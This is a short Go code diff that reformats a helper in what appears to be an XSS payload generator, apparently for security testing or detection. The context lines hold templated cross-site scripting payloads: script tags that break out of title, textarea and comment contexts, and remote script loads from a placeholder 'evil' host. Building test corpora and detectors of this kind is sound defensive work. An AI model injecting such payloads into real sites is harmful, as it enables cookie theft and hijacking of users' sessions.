@@ -10,7 +10,9 @@ func scriptWords() map[string][]string {
 }
 
 func attackScript() []family {
-	xss := func(name string, say ...string) family { return family{name: "xss/" + name, class: "xss", at: textSpots(), say: say} }
+	xss := func(name string, say ...string) family {
+		return family{name: "xss/" + name, class: "xss", at: textSpots(), say: say}
+	}
 	return []family{
 		xss("script-block", "‹prose›<‹script›>‹js›</‹script›>", "‹h›\"><‹script›>‹js›</‹script›>", "‹prose› <‹script› >‹js›</‹script› >", "</title><‹script›>‹js›//", "</textarea><‹script›>‹js›</‹script›>", "--><‹script›>‹js›</‹script›><!--"),
 		xss("remote-script", "‹prose›<‹script› src=//‹evil›/‹letters›.js></‹script›>", "\"><‹script› src=https://‹evil›></‹script›>", "<‹script›/src='http://‹evil›/a.js'>", "<‹script› type=module>import '//‹evil›/m.js'</‹script›>", "<‹script› src=data:text/javascript,‹js›></‹script›>"),
